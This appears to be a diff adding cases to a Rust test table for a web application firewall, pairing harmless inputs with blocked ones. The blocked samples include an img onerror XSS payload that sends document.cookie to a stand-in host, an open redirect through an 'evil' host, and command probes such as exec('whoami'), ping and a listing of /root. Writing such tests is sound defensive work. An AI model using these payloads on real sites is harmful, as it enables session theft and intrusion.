@@ -6,6 +6,17 @@ use crate::waf::{Settings, Verdict};
 /// Name of a JSON member, a value that passes under it, and one that does not.
 const PAIRS: &[(&str, &str, &str)] = &[
     (
+        "url",
+        "redis://:secret@10.0.0.9:6379/0",
+        "redis://10.0.0.9:6379/0",
+    ),
+    (
+        "q",
+        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2F&h=",
+        "https://l.evil.example/l.php?u=https%3A%2F%2Fshop.example%2F&h=",
+    ),
+    ("q", "ping 1.1.1.1 high latency", "ping -c 4 127.0.0.1"),
+    (
         "text",
         "const { exec } = require('child_process');\nexec('git rev-parse HEAD', (err, stdout) => log(stdout));",
         "const { exec } = require('child_process');\nexec('whoami', (err, stdout) => log(stdout));",
@@ -19,6 +30,11 @@ const PAIRS: &[(&str, &str, &str)] = &[
         "text",
         "<img src=\"foo.jpg\" onerror=\"this.onerror=null;this.src='/img/none.png'\">",
         "<img src=\"foo.jpg\" onerror=\"this.onerror=null;this.src='//a.example/'+document.cookie\">",
+    ),
+    (
+        "text",
+        "tar xzf a.tar.gz -C /opt && ls -la /opt | grep app",
+        "tar xzf a.tar.gz -C /opt && ls -la /root | grep app",
     ),
     (
         "text",
